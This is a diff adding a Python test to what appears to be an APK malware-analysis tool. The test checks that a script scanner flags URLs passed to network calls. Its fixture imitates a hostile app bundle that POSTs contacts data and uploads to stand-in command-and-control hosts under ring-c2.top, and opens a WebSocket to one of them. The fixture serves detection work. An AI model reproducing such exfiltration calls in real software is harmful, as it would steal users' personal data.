@@ -129,3 +129,27 @@ def test_what_raises_the_level() -> None:
     assert rated["level"] == "critical"
     assert "hides its launcher icon and takes personal data" in rated["reasons"]
     assert rate(_result([], signed=False))["level"] == "medium"
+
+
+def test_script_assets_count_only_urls_handed_to_a_network_call() -> None:
+    from ringtrace.apk.endpoints import NOTICE_ASSET, scan_script
+
+    bundle = (
+        'var docs = "https://reactnative.dev/docs/network";'
+        'fetch("https://api.ring-c2.top/v1/contacts", {method: "POST"});'
+        "axios.post(`https://up.ring-c2.top/u`, body);"
+        'const ws = new WebSocket("wss://push.ring-c2.top/s");'
+    )
+    out = Collector()
+    scan_script(bundle, "assets/index.android.bundle", out)
+    found = {e["value"]: e for e in out.results()[0]}
+    ring = found["ring-c2.top"]
+    assert ring["link_key"] and ring["usage"] == "network"
+    assert {u["url"] for u in ring["urls"]} == {
+        "https://api.ring-c2.top/v1/contacts", "https://up.ring-c2.top/u",
+        "wss://push.ring-c2.top/s",
+    }  # fmt: skip
+    assert not found["reactnative.dev"]["link_key"]  # a library's documentation link
+    for name in ("third_party_licenses.json", "LICENSE.txt", "oss_licenses.html", "NOTICE"):
+        assert NOTICE_ASSET.search(name)
+    assert not NOTICE_ASSET.search("config.json")
